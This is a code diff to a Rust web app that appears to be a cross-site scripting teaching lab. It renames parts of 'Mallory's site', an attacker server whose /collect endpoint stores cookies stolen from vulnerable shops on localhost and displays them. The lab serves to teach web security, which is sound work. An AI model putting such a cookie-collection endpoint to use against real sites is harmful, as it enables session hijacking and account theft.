@@ -14,11 +14,11 @@ use minijinja::{context, value::Serde};
 use serde::Deserialize;
 use tower_sessions::session::Id;
 
-use crate::{attack::encoded, lab::Lab, page::PAGES, shop::ACCOUNTS, twin::COOKIES};
+use crate::{attack::encoded, lab::Lab, page::PAGES, shop::ACCOUNTS, site::COOKIES};
 
 /// The cookies that were sent here.
 #[derive(Clone, Default)]
-struct Loot(Arc<Mutex<Vec<String>>>);
+struct CollectedCookies(Arc<Mutex<Vec<String>>>);
 
 /// Mallory's site; her notes go to the shops of this lab.
 pub(crate) fn routes(lab: Lab) -> Router {
@@ -31,13 +31,13 @@ pub(crate) fn routes(lab: Lab) -> Router {
         .route("/notes", get(bait).post(write_notes))
         .route("/collect", get(collect))
         .route("/forget", post(forget))
-        .layer(Extension(Loot::default()))
+        .layer(Extension(CollectedCookies::default()))
         .layer(Extension(lab))
 }
 
 #[derive(Deserialize)]
 struct At {
-    /// The host of the twin to attack, such as `vulnerable.localhost:4004`.
+    /// The host of the shop to attack, such as `vulnerable.localhost:4004`.
     at: Option<String>,
 }
 
@@ -52,9 +52,9 @@ impl At {
     }
 }
 
-async fn index(Extension(loot): Extension<Loot>) -> Result<Html<String>, Failure> {
-    let loot = loot.0.lock().unwrap_or_else(PoisonError::into_inner).clone();
-    PAGES.render("evil.html", context! { loot => Serde(loot) })
+async fn index(Extension(cookies): Extension<CollectedCookies>) -> Result<Html<String>, Failure> {
+    let cookies = cookies.0.lock().unwrap_or_else(PoisonError::into_inner).clone();
+    PAGES.render("evil.html", context! { cookies => Serde(cookies) })
 }
 
 async fn bait(Query(at): Query<At>, request: Request) -> axum::response::Result<Html<String>> {
@@ -118,15 +118,18 @@ struct Stolen {
     cookie: String,
 }
 
-async fn collect(Extension(loot): Extension<Loot>, Query(Stolen { cookie }): Query<Stolen>) -> StatusCode {
-    let mut loot = loot.0.lock().unwrap_or_else(PoisonError::into_inner);
-    if !cookie.is_empty() && loot.len() < 20 {
-        loot.push(cookie.chars().take(200).collect());
+async fn collect(
+    Extension(cookies): Extension<CollectedCookies>,
+    Query(Stolen { cookie }): Query<Stolen>,
+) -> StatusCode {
+    let mut cookies = cookies.0.lock().unwrap_or_else(PoisonError::into_inner);
+    if !cookie.is_empty() && cookies.len() < 20 {
+        cookies.push(cookie.chars().take(200).collect());
     }
     StatusCode::NO_CONTENT
 }
 
-async fn forget(Extension(loot): Extension<Loot>) -> Redirect {
-    loot.0.lock().unwrap_or_else(PoisonError::into_inner).clear();
+async fn forget(Extension(cookies): Extension<CollectedCookies>) -> Redirect {
+    cookies.0.lock().unwrap_or_else(PoisonError::into_inner).clear();
     Redirect::to("/")
 }
